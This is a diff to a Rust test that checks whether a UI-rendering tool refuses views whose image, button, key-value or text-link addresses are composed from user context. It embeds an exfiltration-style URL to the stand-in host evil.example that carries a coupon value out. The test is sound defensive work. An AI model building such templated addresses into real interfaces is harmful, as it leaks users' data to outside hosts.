@@ -402,28 +402,42 @@ async fn a_frame_and_its_host_may_load_pictures_from_the_named_hosts_and_from_no
 }
 
 #[tokio::test]
-async fn a_view_with_a_picture_address_from_user_input_is_refused_with_a_finding() {
+async fn a_view_with_an_address_from_user_input_is_refused_with_a_finding() {
     let world = World::start().await;
-    let template = "https://evil.example/?q=${/context/coupon}";
-    let url = json!({"call": "formatString", "args": {"value": template}});
-    let view = json!({"components": [{"id": "root", "component": "Image", "url": url}]});
-    let draft = json!({"contract": basket(), "view": view});
-    let arguments = json!({"intent": "A basket", "blueprintDraft": draft});
-    let agreed = world.tool("ggui_handshake", arguments).await;
-    let findings = agreed["suggestion"]["validationFindings"].as_array();
-    let found: Vec<_> = findings
-        .into_iter()
-        .flatten()
-        .map(|finding| (finding["code"].as_str(), finding["path"].as_str()))
-        .collect();
-    let expected = (Some("VIEW_TYPED_ADDRESS"), Some("components[root].url"));
-    assert_eq!(found, [expected], "{agreed}");
-    let arguments = json!({"handshakeId": agreed["handshakeId"], "props": basket_props()});
-    let shown = world.call("ggui_render", arguments).await;
-    assert!(
-        !shown.to_string().contains("evil.example"),
-        "a composed one is shown"
-    );
+    let typed = |text: &str| json!({"call": "formatString", "args": {"value": text}});
+    let address = typed("https://evil.example/?q=${/context/coupon}");
+    let opens = json!({"functionCall": {"call": "openUrl", "args": {"url": address}}});
+    let fact = json!({"label": "Page", "value": address, "format": "url"});
+    let link = typed("[Mugs](https://evil.example/?q=${/context/coupon})");
+    for (root, member) in [
+        (json!({"component": "Image", "url": address}), "url"),
+        (json!({"component": "Button", "child": "word", "action": opens}), "action"),
+        (json!({"component": "KeyValue", "items": [fact]}), "items"),
+        (json!({"component": "Text", "text": link}), "text"),
+    ] {
+        let mut root = root;
+        root["id"] = json!("root");
+        let word = json!({"id": "word", "component": "Text", "text": "Open"});
+        let view = json!({"components": [root, word]});
+        let draft = json!({"contract": basket(), "view": view});
+        let arguments = json!({"intent": "A basket", "blueprintDraft": draft});
+        let agreed = world.tool("ggui_handshake", arguments).await;
+        let findings = agreed["suggestion"]["validationFindings"].as_array();
+        let found: Vec<_> = findings
+            .into_iter()
+            .flatten()
+            .map(|finding| (finding["code"].as_str(), finding["path"].as_str()))
+            .collect();
+        let path = format!("components[root].{member}");
+        let expected = (Some("VIEW_TYPED_ADDRESS"), Some(&*path));
+        assert_eq!(found, [expected], "{agreed}");
+        let arguments = json!({"handshakeId": agreed["handshakeId"], "props": basket_props()});
+        let shown = world.call("ggui_render", arguments).await;
+        assert!(
+            !shown.to_string().contains("evil.example"),
+            "a composed one is shown"
+        );
+    }
 }
 
 #[tokio::test(flavor = "multi_thread")]
